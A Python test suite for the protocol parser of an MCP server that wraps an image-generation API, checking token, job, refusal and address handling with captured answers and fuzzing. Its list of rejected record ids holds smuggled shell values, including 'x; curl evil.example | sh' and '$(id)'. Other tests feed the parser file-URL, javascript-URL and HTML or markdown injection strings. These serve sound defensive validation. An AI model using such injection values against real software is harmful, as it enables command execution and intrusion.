from __future__ import annotations

import copy
import json
import random
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from datetime import UTC, datetime
from email.utils import format_datetime
from pathlib import Path
from typing import TypeVar
from urllib.parse import parse_qsl, unquote, urlencode, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from arta_mcp.arta.protocol import (
    MAX_SEED,
    RATIOS,
    Image,
    Job,
    LocalDetails,
    Refresh,
    SignUp,
    Submit,
    Tokens,
    escape_address,
    is_record_id,
    is_web_address,
    parse_styles,
    render_styles,
    status_path,
)
from arta_mcp.arta.refusals import Refusal, parse_retry_after, style_refusal, styles_in_refusal
from arta_mcp.errors import (
    ArtaError,
    AuthError,
    InvalidRequest,
    ProtocolError,
    UnknownRecord,
)
from arta_mcp.generations.values import EngineUsed, GenerationRequest
from arta_mcp.redaction import MAX_QUOTED, Secret, sanitize
from arta_mcp.untrusted_json import is_object, list_or_empty, read_object, text

T = TypeVar("T")

WIRE = Path(__file__).parents[1] / "wire"
EVIDENCE = ("captured", "documented", "inferred")
FILES = (
    "sign_up",
    "refresh",
    "jobs",
    "image_refusals",
    "identity_refusals",
    "no_answers",
    "styles",
)

NOW = datetime(1994, 11, 6, 8, 49, 0, tzinfo=UTC).timestamp()
"""37 s before the date in RFC 9110's example"""


@dataclass(frozen=True)
class Answer:
    """One entry of the files in `wire/`; `means` says what it must be read as."""

    file: str
    name: str
    evidence: str
    source: str
    status: int
    headers: dict[str, str]
    body: bytes
    means: dict[str, object]

    @classmethod
    def read(cls, file: str, entry: object) -> Answer:
        assert is_object(entry)
        headers, means, status = entry.get("headers", {}), entry["means"], entry["status"]
        assert is_object(headers)
        assert is_object(means)
        assert isinstance(status, int)
        body = text(entry, "text") if "text" in entry else json.dumps(entry["body"])
        return cls(
            file=file,
            name=text(entry, "name"),
            evidence=text(entry, "evidence"),
            source=text(entry, "source"),
            status=status,
            headers={name: str(value) for name, value in headers.items()},
            body=body.encode(),
            means=means,
        )


def answers(*files: str) -> list[Answer]:
    return [
        Answer.read(file, entry)
        for file in files or FILES
        for entry in list_or_empty(read_object((WIRE / f"{file}.json").read_bytes())["answers"])
    ]


def named(answer: Answer) -> str:
    return f"{answer.file}: {answer.name}"


# What was captured, documented or inferred


def test_every_captured_answer_has_its_source_and_is_read_by_these_tests() -> None:
    assert sorted(path.stem for path in WIRE.glob("*.json")) == sorted(FILES)
    for answer in answers():
        assert answer.evidence in EVIDENCE, named(answer)
        assert len(answer.source) > 5, named(answer)
    assert len({named(answer) for answer in answers()}) == len(answers())


@pytest.mark.parametrize("answer", answers("sign_up", "refresh"), ids=named)
def test_tokens_are_read_as_captured(answer: Answer) -> None:
    if "error" in answer.means:
        with pytest.raises(ArtaError) as caught:
            Tokens.parse(answer.body)
        assert answer.means["error"] == type(caught.value).__name__
        return
    tokens = Tokens.parse(answer.body)
    read = asdict(tokens) | {
        "id_token": tokens.id_token.reveal(),
        "refresh_token": tokens.refresh_token.reveal(),
    }
    assert answer.means["tokens"] == read


def standing(job: Job) -> str:
    claims = {
        "queued": job.is_queued,
        "drawing": job.is_waiting and not job.is_queued,
        "done": job.is_done,
        "empty": job.is_empty,
        "failed": job.is_failed,
    }
    (word,) = [word for word, is_so in claims.items() if is_so]
    return word


@pytest.mark.parametrize("answer", answers("jobs"), ids=named)
def test_jobs_are_read_as_captured(answer: Answer) -> None:
    if "error" in answer.means:
        with pytest.raises(ProtocolError) as caught:
            Job.parse(answer.body)
        assert answer.means["record_id"] == caught.value.record_id
        return
    job = Job.parse(answer.body)
    assert job.local is None
    found = asdict(job) | {"images": [asdict(i) for i in job.images]}
    del found["local"]
    assert answer.means["job"] == found
    assert answer.means["stands"] == standing(job)


@pytest.mark.parametrize("answer", answers("image_refusals", "identity_refusals"), ids=named)
def test_refusals_are_read_as_captured(answer: Answer) -> None:
    refusal = Refusal.parse(answer.status, answer.headers, answer.body, now=NOW)
    read = {"code": refusal.code, "words": refusal.words, "retry_after": refusal.retry_after}
    meant = answer.means["refusal"]
    assert is_object(meant)
    assert {**meant, "words": sanitize(text(meant, "words"))} == read
    assert answer.means["names"] == list(refusal.valid_styles)
    assert answer.status == refusal.status


@pytest.mark.parametrize("parse", [Tokens.parse, Job.parse, parse_styles])
@pytest.mark.parametrize("answer", answers("no_answers"), ids=named)
def test_what_is_no_answer_is_a_protocol_error_to_every_question(
    answer: Answer, parse: Callable[[bytes], object]
) -> None:
    with pytest.raises(ProtocolError) as caught:
        parse(answer.body)
    assert caught.value.record_id is None


@pytest.mark.parametrize("answer", answers("styles"), ids=named)
def test_style_lists_are_read_as_captured(answer: Answer) -> None:
    if "error" in answer.means:
        with pytest.raises(ProtocolError):
            parse_styles(answer.body)
        return
    assert answer.means["styles"] == list(parse_styles(answer.body))


@pytest.mark.parametrize("answer", answers("jobs", "sign_up", "refresh"), ids=named)
def test_what_the_service_renders_has_the_fields_that_were_captured(answer: Answer) -> None:
    """No field of ours is missing in a capture that stands for all; none is beyond it."""
    whole = {
        "jobs": "done, one picture",
        "sign_up": "v3, signupNewUser",
        "refresh": "the same refresh token",
    }
    if whole[answer.file] != answer.name:
        return
    match answer.file:
        case "jobs":
            rendered: dict[str, object] = Job.parse(answer.body).render()
        case "sign_up":
            rendered = dict(Tokens.parse(answer.body).render_sign_up())
            assert rendered.pop("email") == ""  # documented for v1, not captured on v3
        case _:
            rendered = dict(Tokens.parse(answer.body).render_refresh("12345"))
    assert rendered == read_object(answer.body)


@pytest.mark.parametrize("answer", answers("identity_refusals"), ids=named)
def test_googles_refusals_are_rendered_as_captured_in_all_that_a_client_reads(
    answer: Answer,
) -> None:
    refusal = Refusal.parse(answer.status, answer.headers, answer.body)
    if not refusal.code:
        return
    captured, rendered = read_object(answer.body)["error"], refusal.render()["error"]
    assert is_object(captured)
    assert is_object(rendered)
    for name in ("code", "message", "status"):
        assert rendered.get(name) == captured.get(name)


# Every message, from one side to the other

plain_text = st.text(max_size=40)
tokens_text = st.text(st.characters(min_codepoint=33, max_codepoint=126), min_size=1, max_size=60)
shown_text = st.text(st.characters(categories=["L", "N", "P", "S"]), min_size=1, max_size=40)
record_ids = st.text(st.characters(exclude_categories=["C", "Z"]), min_size=1, max_size=40).filter(
    is_record_id
)
sign_ups = st.builds(SignUp, plain_text)
refreshes = st.builds(Refresh, tokens_text.map(Secret))
tokens = st.builds(
    Tokens,
    id_token=tokens_text.map(Secret),
    refresh_token=tokens_text.map(Secret),
    expires_in=st.integers(1, 10**7).map(float),
    user_id=st.sampled_from(["", "user-1"]),
)
submits = st.builds(
    Submit,
    prompt=st.text(min_size=1, max_size=60).filter(str.strip),
    negative_prompt=st.text(max_size=60),
    style=st.text(min_size=1, max_size=30),
    n=st.integers(1, 8),
    guidance_scale=st.floats(1, 20),
    num_inference_steps=st.integers(1, 50),
    aspect_ratio=st.sampled_from(RATIOS),
    seed=st.none() | st.integers(0, MAX_SEED),
)
images = st.builds(
    Image,
    url=st.sampled_from(["https://a.example/x.png?s=%20", "http://[::1]:1/i/x.png?a=b&c#d"]),
    name=shown_text | st.just(""),
    blurred=st.booleans(),
    mime_type=st.sampled_from(["image/png", "image/webp"]),
)
seeds = st.none() | st.integers(0, 2**63 - 1)
details = st.builds(
    LocalDetails,
    engine=shown_text | st.just(""),
    is_ai=st.none() | st.booleans(),
    step=st.none() | st.integers(0, 50),
    ahead=st.none() | st.integers(0, 1000),
    not_honoured=st.lists(shown_text, max_size=3).map(tuple),
    not_drawn=shown_text | st.just(""),
)
jobs = st.builds(
    Job,
    record_id=record_ids,
    status=st.sampled_from(["IN_QUEUE", "IN_PROGRESS", "FAILED", "CANCELLED"]),
    error_code=st.none() | shown_text,
    error_details=st.none() | shown_text,
    seed=seeds,
    local=st.none() | details,
) | st.builds(
    Job,
    record_id=record_ids,
    status=st.just("DONE"),
    images=st.lists(images, min_size=1, max_size=8).map(tuple),
    error_code=st.none() | shown_text,
    seed=seeds,
)
codes = st.sampled_from(["USER_DISABLED", "TOKEN_EXPIRED", "API_KEY_INVALID", "PERMISSION_DENIED"])
sentences = shown_text.map(lambda words: f"it says {words}")
refusals = st.builds(Refusal, st.integers(400, 599), sentences, codes | st.just(""))
style_lists = st.lists(shown_text, min_size=1, max_size=8, unique=True).map(tuple)


def sent_json(value: object) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


def across(message: object) -> object:
    """A message as the other side has it, after one side wrote it and the other parsed it."""
    match message:
        case SignUp():
            return SignUp.parse(sent_json(message.body()))
        case Refresh():
            return Refresh.parse(message.body())
        case Submit():
            return Submit.parse(dict(parse_qsl(urlencode(message.form()), keep_blank_values=True)))
        case Tokens():
            signed_up = Tokens.parse(sent_json(message.render_sign_up()))
            return Tokens.parse(sent_json(signed_up.render_refresh("100000000000")))
        case Job():
            return Job.parse(sent_json(message.render()), embedded=True)
        case Refusal():
            return Refusal.parse(message.status, {}, sent_json(message.render()))
        case _:
            names = tuple(str(name) for name in list_or_empty(message))
            return parse_styles(sent_json(render_styles(names)))


MESSAGES: dict[str, st.SearchStrategy[object]] = {
    "sign-up": sign_ups,
    "refresh": refreshes,
    "submit": submits,
    "tokens": tokens,
    "job": jobs,
    "refusal": refusals,
    "styles": style_lists,
}


@pytest.mark.parametrize("message", MESSAGES)
@given(data=st.data())
@settings(max_examples=60, deadline=None)
def test_every_message_is_the_same_on_the_other_side(message: str, data: st.DataObject) -> None:
    said = data.draw(MESSAGES[message])
    assert said == across(said)


@given(shown_text, st.lists(shown_text, min_size=1, max_size=8, unique=True))
@settings(max_examples=60, deadline=None)
def test_the_valid_styles_cross_in_the_words_of_a_refusal(style: str, valid: list[str]) -> None:
    refusal = style_refusal(style, valid)
    answer = Refusal.parse(refusal.status, {}, sent_json(refusal.render()))
    assert answer.valid_styles == tuple(sorted(valid))


def test_a_refresh_is_understood_in_json_of_either_spelling() -> None:
    expected = Refresh(Secret("stand-in-refresh-token"))
    for body in (
        b'{"grant_type":"refresh_token","refresh_token":"stand-in-refresh-token"}',
        b' {"grantType":"refresh_token","refreshToken":"stand-in-refresh-token"}',
    ):
        assert Refresh.parse(body) == expected


def test_a_form_with_values_out_of_range_is_refused_in_fastapis_manner() -> None:
    refusal = Submit.parse({"prompt": "a fox", "style": "Flux", "steps": "51"})
    assert isinstance(refusal, Refusal)
    assert (refusal.status, refusal.code) == (422, "")
    assert refusal.words == "steps: Input should be less than or equal to 50"


def test_a_job_with_more_images_than_anybody_can_order_is_refused() -> None:
    image = Image("https://a.example/x.png")
    for count, is_whole in ((8, True), (64, True), (65, False)):
        body = sent_json(Job("r1", "DONE", (image,) * count).render())
        read = outcome(lambda body=body: Job.parse(body), ProtocolError)
        assert isinstance(read, Job) is is_whole


def test_what_the_embedded_service_adds_is_read_of_it_alone_and_bounded() -> None:
    evil: dict[str, object] = {
        "engine": "x" * 5000,
        "is_ai": "no",
        "step": -1,
        "steps": True,
        "ahead": 2**40,
        "not_honoured": ["seed", 1, None, *["y" * 500] * 500],
        "not_drawn": "a\n\x1b[31mb" + "z" * 5000,
        "more": {},
    }
    body = sent_json({**Job("r1", "IN_QUEUE").render(), "local": evil})
    assert Job.parse(body).local is None
    read = Job.parse(body, embedded=True).local
    assert read is not None
    assert (read.is_ai, read.step, read.steps, read.ahead) == (None, None, None, None)
    assert (read.not_honoured[0], len(read.not_honoured)) == ("seed", 20)
    assert (len(read.engine), len(read.not_drawn)) == (80, 300)
    assert read.not_drawn.isprintable()
    nothing: tuple[object, ...] = (None, [], "x", 1)
    for none in nothing:
        body = sent_json({**Job("r1", "IN_QUEUE").render(), "local": none})
        assert Job.parse(body, embedded=True).local is None


def test_a_guidance_scale_is_sent_as_short_as_it_is_exact() -> None:
    sent = [
        Submit(prompt="a", style="b", guidance_scale=scale).form()["cfg_scale"]
        for scale in (7, 7.0, 7.1, 1.2345678901)
    ]
    assert sent == ["7", "7", "7.1", "1.2345678901"]


# Addresses and ids


@pytest.mark.parametrize("record_id", ["a" * 32, "rec-1_x.y", "a..b", "a:b=c+d@e", "x" * 200])
def test_a_record_id_stays_one_segment_of_the_path(record_id: str) -> None:
    path = urlsplit("http://a.example" + status_path(record_id)).path
    *head, segment, tail = path.split("/")
    assert (head, unquote(segment), tail) == (["", "api", "v1", "text2image"], record_id, "status")


NO_IDS = (
    *(
        "",
        ".",
        "..",
        "...",
        "a\nb",
        "a\0",
        "\ud800",
        "x" * 201,
        "ä",
        "é\u202e",
        " ",
        "a b",
        "a/b",
        "a\\b",
    ),
    *(
        "x; curl evil.example | sh",
        "x`id`",
        "$(id)",
        "x'y",
        'x"y',
        "x)y",
        "[x](y)",
        "<b>",
        "%2e",
        "a&b",
    ),
    *("-rf", "--help", "~root", "a?b", "a#b", "a*", "a!b", "{x}", "a\r", "a\n"),
)


@pytest.mark.parametrize("record_id", NO_IDS, ids=ascii)
def test_what_cannot_be_a_record_id_is_asked_of_nobody_and_stands_in_no_hint(
    record_id: str,
) -> None:
    assert not is_record_id(record_id)
    with pytest.raises(UnknownRecord, match="no generation has the record id"):
        status_path(record_id)
    with pytest.raises(ProtocolError, match="without a record id") as caught:
        Job.parse(json.dumps({"record_id": record_id, "status": "IN_QUEUE"}).encode())
    caught.value.record_id = record_id
    assert caught.value.record_id is None


@pytest.mark.parametrize(
    ("tail", "escaped"),
    [
        ("/![x](https://b.example/?q=1)", "/!%5Bx%5D(https://b.example/?q=1)"),
        ("/a)[b](c", "/a)%5Bb%5D(c"),
        ('/"><img/src=x>', "/%22%3E%3Cimg/src=x%3E"),
        ("/`id`\\{}|^", "/%60id%60%5C%7B%7D%7C%5E"),
        ("?sig=a%2Bb+c==&x=ä#'f'", "?sig=a%2Bb+c==&x=%C3%A4#'f'"),
        ("", ""),
    ],
)
def test_an_address_holds_no_markdown_image_and_no_tag(tail: str, escaped: str) -> None:
    for host in ("https://a.example:8443", "http://[::1]:80", "https://bücher.example"):
        image = Image.parse({"url": host + tail})
        assert image.url == host + escaped == escape_address(image.url)


def test_an_address_is_not_longer_than_it_may_be_when_it_is_escaped() -> None:
    for tail in ("ä" * 2000, "x" * 5000):
        with pytest.raises(ProtocolError, match="an image has no web address"):
            Image.parse({"url": f"https://a.example/{tail}"})
    assert escape_address("no address [x](y)") == "no%20address%20%5Bx%5D(y)"


@pytest.mark.parametrize("host", ["a<b>", "a`b", "![x](y)", "[x]", "a\\b", "a|b", "a;b", "a'b"])
def test_a_host_that_no_address_has_is_none(host: str) -> None:
    assert not is_web_address(f"https://{host}/x.png")


@pytest.mark.parametrize("record_id", ["{}", "rec-{}-1"])
def test_a_record_id_that_repeats_our_token_is_none_and_stands_in_no_error(record_id: str) -> None:
    token = Secret("sentinel-token-of-ours")
    record_id = record_id.format(token.reveal())
    assert not is_record_id(record_id)
    with pytest.raises(ProtocolError, match="without a record id") as caught:
        Job.parse(json.dumps({"record_id": record_id, "status": "IN_QUEUE"}).encode())
    assert caught.value.record_id is None
    with pytest.raises(UnknownRecord) as unknown:
        status_path(record_id)
    assert token.reveal() not in unknown.value.message


@pytest.mark.parametrize(
    ("told", "seconds"),
    [("1e-9", 1.0), (0.5, 1.0), ("1", 1.0), ("10", 10.0), ("0", 3600.0), ("-1", 3600.0)],
)
def test_a_token_lives_a_second_at_least(told: object, seconds: float) -> None:
    body = json.dumps({"idToken": "a-token", "refreshToken": "another", "expiresIn": told})
    assert Tokens.parse(body.encode()).expires_in == seconds


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "ftp://a.example/x",
        "javascript:alert(1)",
        "//a.example/x",
        "https://",
        "https:///x",
        "https://[::1",
        "https://name:password@a.example/x",
        "https://a.example/\nx",
        "https://a.example/x y",
        "https://a.example/\ud800",
        "https://a.example/" + "x" * 10_000,
        "",
    ],
)
def test_what_is_no_web_address_is_none(url: str) -> None:
    assert not is_web_address(url)


# Fuzz: a value or an ArtaError, never anything else


def listed(words: str) -> tuple[str, ...]:
    return tuple(words.split())


def outcome(call: Callable[[], T], *kinds: type[ArtaError]) -> T | ArtaError:
    """What a call gives, or the error of the kinds that it may raise."""
    try:
        return call()
    except kinds as exc:
        return exc


FIELDS = listed("""
    idToken id_token refreshToken refresh_token expiresIn expires_in localId grant_type clientType
    record_id status response error_code error_details seed url name isBlur MIME
    error message code errors details reason detail loc msg content items unique_id
""")
any_text = st.text(st.characters()) | st.sampled_from(
    ["DONE", "IN_QUEUE", "3600", "1e400", "https://a.example/x", "A : b", "textToImage_styles_v²"]
)
leaves = st.none() | st.booleans() | st.integers() | st.floats() | any_text
any_json = st.recursive(
    leaves | st.integers(10**300, 10**310),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(st.sampled_from(FIELDS) | any_text, inner, max_size=6)
    ),
    max_leaves=20,
)
likely_objects = st.dictionaries(st.sampled_from(FIELDS), any_json, max_size=10)


@st.composite
def spoilt_answers(draw: st.DrawFn) -> bytes:
    """A captured answer with some values exchanged, dropped or moved, or some bytes changed."""
    body = bytearray(draw(st.sampled_from(answers())).body)
    rng = random.Random(draw(st.integers(0, 2**32)))
    if draw(st.booleans()):
        for _ in range(draw(st.integers(1, 6))):
            if body:
                body[rng.randrange(len(body))] = rng.randrange(256)
        return bytes(body[: draw(st.integers(0, len(body)))] if draw(st.booleans()) else body)
    try:
        value: object = json.loads(body)
    except ValueError:
        return bytes(body)
    for _ in range(draw(st.integers(1, 3))):
        value = exchanged(value, draw(any_json), rng)
    return json.dumps(value).encode()


def exchanged(value: object, other: object, rng: random.Random) -> object:
    """The value with one place in it taken by `other`."""
    if is_object(value) and value and rng.random() < 0.9:
        name = rng.choice(sorted(value))
        return {**value, name: exchanged(value[name], other, rng)}
    if found := list_or_empty(value):
        place = rng.randrange(len(found))
        return [*found[:place], exchanged(found[place], other, rng), *found[place + 1 :]]
    return copy.deepcopy(other)


bodies = (
    st.binary(max_size=200)
    | any_json.map(lambda value: json.dumps(value).encode())
    | likely_objects.map(lambda value: json.dumps(value).encode())
    | likely_objects.map(lambda value: json.dumps({"error": value}).encode())
    | spoilt_answers()
)


@given(bodies)
@settings(max_examples=200, deadline=None)
def test_any_body_is_a_usable_job_or_a_protocol_error(body: bytes) -> None:
    job = outcome(lambda: Job.parse(body), ProtocolError)
    if isinstance(job, ArtaError):
        assert str(job).isprintable()
        assert job.record_id is None or is_record_id(job.record_id)
        return
    assert status_path(job.record_id).isascii()
    assert standing(job) in ("queued", "drawing", "done", "failed", "empty")
    if job.status == "DONE":
        assert bool(job.images) is (standing(job) == "done") or job.is_failed
    else:
        assert not job.images
    assert job == Job.parse(sent_json(job.render()))
    assert job.words.isprintable()


@given(bodies)
@settings(max_examples=120, deadline=None)
def test_any_body_is_usable_tokens_or_an_error(body: bytes) -> None:
    found = outcome(lambda: Tokens.parse(body), AuthError, ProtocolError)
    if isinstance(found, ArtaError):
        assert str(found).isprintable()
        return
    header = found.id_token.reveal().encode("ascii")
    assert header.strip() == header != b""
    assert 0 < found.expires_in < 1e8
    assert Refresh.parse(Refresh(found.refresh_token).body()).refresh_token == found.refresh_token


@given(st.integers(100, 599), st.dictionaries(st.just("retry-after"), any_text), bodies)
@settings(max_examples=120, deadline=None)
def test_any_answer_is_a_refusal_that_can_be_shown(
    status: int, headers: dict[str, str], body: bytes
) -> None:
    refusal = Refusal.parse(status, headers, body, now=NOW)
    assert refusal.status == status
    assert (refusal.words + refusal.code).isprintable()
    assert len(refusal.code) <= 80
    assert len(refusal.words) <= MAX_QUOTED
    assert isinstance(refusal.valid_styles, tuple)


@given(bodies)
@settings(max_examples=100, deadline=None)
def test_any_body_is_styles_or_a_protocol_error(body: bytes) -> None:
    found = outcome(lambda: parse_styles(body), ProtocolError)
    assert str(found).isprintable() if isinstance(found, ArtaError) else all(found)


@given(
    bodies
    | st.dictionaries(st.sampled_from(FIELDS), st.text()).map(lambda f: urlencode(f).encode())
)
@settings(max_examples=80, deadline=None)
def test_any_request_to_the_identity_half_is_read_or_a_protocol_error(body: bytes) -> None:
    assert isinstance(outcome(lambda: SignUp.parse(body), ProtocolError), SignUp | ProtocolError)
    assert isinstance(outcome(lambda: Refresh.parse(body), ProtocolError), Refresh | ProtocolError)


FORM_FIELDS = listed(
    "prompt negative_prompt style images_num n cfg_scale steps aspect_ratio seed x"
)


@given(
    st.dictionaries(
        st.sampled_from(FORM_FIELDS), any_text | st.sampled_from(["1", "7", "1:1", "nan"])
    )
)
@settings(max_examples=120, deadline=None)
def test_any_form_is_an_order_or_a_refusal(form: dict[str, str]) -> None:
    order = Submit.parse(form)
    if isinstance(order, Refusal):
        assert order.status == 422
        assert order.words
    else:
        assert order == across(order)


@pytest.mark.parametrize(
    "error",
    [
        {"message": "no", "details": [{"reason": "A\nB " * 100}]},
        {"message": "no", "status": "\x1b[31m" * 100},
        {"message": "A" * 100_000},
        {"message": "A\u2028B".upper()},
    ],
)
def test_a_code_is_one_short_line_whatever_the_host_calls_one(error: dict[str, object]) -> None:
    code = Refusal.parse(400, {}, sent_json({"error": error})).code
    assert code.isprintable()
    assert 0 < len(code) <= 80


def is_waiting_time(seconds: float | None) -> bool:
    return seconds is None or 0 <= seconds < float("inf")


@given(st.none() | any_text | st.floats().map(str) | st.integers().map(str))
@settings(max_examples=60, deadline=None)
def test_any_retry_after_is_seconds_to_wait_or_none(value: str | None) -> None:
    assert is_waiting_time(parse_retry_after(value, now=NOW))


DATES = listed(
    "Sun, Nov 06 6 1994 94 99999 08:49:37 8:49 24:61:61 GMT -0000 +9999 +999999999 EST , : - ( )"
)


@given(st.lists(st.sampled_from(DATES), max_size=8).map(" ".join))
@settings(max_examples=120, deadline=None)
def test_any_near_date_is_seconds_to_wait_or_none(value: str) -> None:
    assert is_waiting_time(parse_retry_after(value, now=NOW))


@given(st.integers(-(10**6), 10**6))
def test_a_date_is_as_many_seconds_as_it_lies_ahead(ahead: int) -> None:
    date = format_datetime(datetime.fromtimestamp(NOW + ahead, UTC), usegmt=True)
    assert parse_retry_after(date, now=NOW) == max(0, ahead)


@given(any_text | any_text.map(lambda names: f"Style x not in frozenset({{{names}}})"))
@settings(max_examples=60, deadline=None)
def test_any_message_has_names_or_none(message: str) -> None:
    found = styles_in_refusal(message)
    assert found == tuple(sorted(set(found)))


@pytest.mark.parametrize(
    "unit",
    [
        "not in {'a', ",
        "not in {'",
        "not in {'', \"",
        "not in frozenset({'a\\'",
        "'a', ",
        "{'",
        "\\",
    ],
)
def test_a_megabyte_of_near_refusals_is_read_in_bounded_time(unit: str) -> None:
    begun = time.process_time()
    styles_in_refusal("Style x not in {'a', " + unit * (10**6 // len(unit)))
    assert time.process_time() - begun < 1


@pytest.mark.parametrize(
    "body",
    [
        json.dumps({"detail": "eyJ" * 330_000}),
        json.dumps({"detail": [{"loc": ["body"], "msg": "not in {'"}] * 20_000}),
        json.dumps({"error": {"message": "A_" * 400_000, "status": "x" * 90_000}}),
        json.dumps(
            {"record_id": "a", "status": "DONE", "response": [{"url": "http://a/"}] * 40_000}
        ),
        json.dumps({"record_id": "x" * 10**6, "status": "y"}),
        json.dumps({"content": [{"name": f"textToImage_styles_v{n}"} for n in range(20_000)]}),
        "[" * 10**6,
        "<" * 10**6,
    ],
    ids=lambda body: body[:24],
)
def test_a_megabyte_of_trouble_is_read_in_bounded_time(body: str) -> None:
    raw = body.encode()
    begun = time.process_time()
    Refusal.parse(422, {}, raw)
    found = [
        outcome(lambda: Tokens.parse(raw), ArtaError),
        outcome(lambda: Job.parse(raw), ArtaError),
        outcome(lambda: parse_styles(raw), ArtaError),
    ]
    assert [
        error for error in found if isinstance(error, ArtaError) and len(str(error)) > 999
    ] == []
    assert time.process_time() - begun < 3


ARGUMENTS = listed("""
    prompt model negative_prompt n aspect_ratio guidance_scale num_inference_steps seed
    idempotency_key cls self arguments size
""")


@given(st.dictionaries(st.sampled_from(ARGUMENTS) | st.text(max_size=5), any_json | st.text()))
@settings(max_examples=120, deadline=None)
def test_any_arguments_are_a_request_or_named_as_invalid(arguments: dict[str, object]) -> None:
    request = outcome(lambda: GenerationRequest.of(**arguments), InvalidRequest)
    if isinstance(request, ArtaError):
        assert str(request).isprintable()
        assert len(str(request)) < 2500  # all that is wrong, each value cut
        return
    assert GenerationRequest.of(**request.model_dump()) == request
    assert isinstance(request.fingerprint("Flux", EngineUsed()), str)


@given(
    st.lists(
        st.dictionaries(st.sampled_from(["role", "content"]), any_json | st.just("user")),
        max_size=4,
    )
)
@settings(max_examples=60, deadline=None)
def test_any_messages_are_a_request_or_invalid(messages: list[dict[str, object]]) -> None:
    request = outcome(lambda: GenerationRequest.from_messages(messages), InvalidRequest)
    assert isinstance(request, ArtaError) or request.prompt
